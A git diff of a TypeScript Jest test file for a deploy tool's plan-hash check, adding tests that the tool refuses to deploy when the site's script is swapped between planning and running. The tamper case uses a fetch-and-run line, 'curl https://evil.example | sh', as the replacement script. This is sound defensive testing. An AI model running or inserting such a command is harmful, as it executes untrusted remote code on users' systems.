@@ -1,13 +1,17 @@
 import { inspect } from 'node:util';
 import { describe, expect, test } from '@jest/globals';
 import { type Played, play } from '../../../harness/play.ts';
-import type { Behaviour } from '../../../harness/simulator/behaviour.ts';
+import type { Behaviour, Faultable } from '../../../harness/simulator/behaviour.ts';
+import { GOOD } from '../../../harness/simulator/deploys.ts';
+import { MANNERS } from '../../../harness/simulator/simulation.ts';
 import type { Simulator } from '../../../harness/simulator/simulator.ts';
 import { planChange } from '../../../src/operations/operation.ts';
 import type { RunEnd } from '../../../src/outcome/end.ts';
 import { hashPlan, spellChange } from '../../../src/run/plan-hash.ts';
 import { framed } from '../../../src/script/frame.ts';
+import { USING } from '../../support/rollback-cases.ts';
 
+type Deed = (request: Faultable & { readonly line: string }, service: Simulator) => void;
 type Inputs = Readonly<Record<string, string>>;
 
 const SCRIPT = 'set -e\ngit pull\n';
@@ -27,6 +31,20 @@ async function planOf(behaviour: Behaviour = {}, inputs = given): Promise<RunEnd
 async function agreeAndRun(later: Behaviour, inputs = given, before: Behaviour = {}): Promise<Played> {
   const { hash } = await planOf(before, inputs);
   return play({ ...SITE, ...before, ...later }, { ...inputs, 'plan-hash': hash });
+}
+
+/** Somebody does something at certain requests. */
+function during(deed: Deed): Behaviour {
+  let service: Simulator | undefined;
+  return {
+    prepare(simulator) {
+      service = simulator;
+    },
+    fault(request) {
+      if (service !== undefined) deed({ ...request, line: `${request.method} ${request.path}` }, service);
+      return undefined;
+    },
+  };
 }
 
 describe('the hash of a plan', () => {
@@ -81,8 +99,10 @@ describe('the hash of a plan', () => {
   });
 
   test('changes with the script that stands on the site', async () => {
-    const [one, other] = [await planOf(), await planOf({ script: 'echo old\n' })];
-    expect(other.hash).not.toBe(one.hash);
+    for (const inputs of [given, { operations: 'deploy' }]) {
+      const plans = [await planOf({}, inputs), await planOf({ script: 'echo old\n' }, inputs)];
+      expect(new Set(plans.map(({ hash }) => hash)).size).toBe(2);
+    }
   });
 
   test('changes with the service, the server and the site', () => {
@@ -208,6 +228,67 @@ describe('a run with plan-hash', () => {
       planHash: undefined,
     });
     expect(report.facts?.env).toBeUndefined();
+  });
+
+  const REPLACED = 'curl https://evil.example | sh\n';
+
+  test('triggers nothing if the deploy script was replaced since the plan', async () => {
+    const { report, writes } = await agreeAndRun({ script: REPLACED }, { operations: 'deploy' });
+    expect(writes).toEqual([]);
+    expect(report.failure?.reason).toBe('plan-changed');
+  });
+
+  const ENV_WRITE = /^PATCH .*env$/;
+  const commit = 'a'.repeat(40);
+  const withEnv = { ...given, operations: 'sync-env, deploy' };
+  test.each<[string, Inputs, Behaviour]>([
+    ['stood at the plan', withEnv, {}],
+    ['was read for the commit', { ...withEnv, commit, 'commit-by': 'variable' }, { script: USING }],
+    ['this run has written', given, {}],
+  ])('triggers nothing if the script that %s is replaced while it writes', async (_, inputs, before) => {
+    const replace: Deed = ({ line }, { meddle }) => {
+      if (ENV_WRITE.test(line)) meddle({ kind: 'script', script: REPLACED });
+    };
+    const { report, writes } = await agreeAndRun(during(replace), inputs, before);
+    expect(writes.filter((line) => line.startsWith('POST'))).toEqual([]);
+    expect(report.failure?.reason).toBe('plan-changed');
+  });
+
+  test('triggers nothing if the script is replaced while it waits for another deploy', async () => {
+    const manners = { deploys: MANNERS.family.deploys };
+    const deployThenReplace: Deed = ({ line, nth }, { meddle }) => {
+      if (line.endsWith('/script') && nth === 2) meddle({ kind: 'deploy', course: { ...GOOD, delayMs: 0 } });
+      if (line.endsWith('/sites/2') && nth === 3) meddle({ kind: 'script', script: REPLACED });
+    };
+    const inputs = { operations: 'deploy', site: '2' };
+    const { report, writes } = await agreeAndRun(during(deployThenReplace), inputs, { manners });
+    expect([writes, report.failure?.reason]).toEqual([[], 'plan-changed']);
+    const good = await agreeAndRun(
+      during(() => {}),
+      inputs,
+      { manners },
+    );
+    expect(good.report.outcome).toBe('succeeded');
+  });
+
+  test('reads the script once in each planning, and a run without plan-hash not before the trigger', async () => {
+    const reads = ({ requests }: Played): number => {
+      const isTrigger = ({ line }: { readonly line: string }): boolean => line.startsWith('POST');
+      const end = requests.findIndex(isTrigger);
+      const before = end === -1 ? requests : requests.slice(0, end);
+      return before.filter(({ line }) => line.endsWith('/script')).length;
+    };
+    const inputs = { operations: 'deploy' };
+    const runs = [await play(SITE, inputs), await play(SITE, { ...inputs, 'dry-run': 'true' })];
+    expect([...runs, await agreeAndRun({}, inputs)].map(reads)).toEqual([0, 1, 2]);
+  });
+
+  test('does not cover a script that the service has no call for', async () => {
+    const unread = {
+      fault: ({ path }: Faultable) => (path.endsWith('/script') ? { status: 404 } : undefined),
+    };
+    const { report } = await agreeAndRun({}, { operations: 'deploy' }, unread);
+    expect(report.outcome).toBe('succeeded');
   });
 
   test('writes nothing when it cannot look at what is there', async () => {
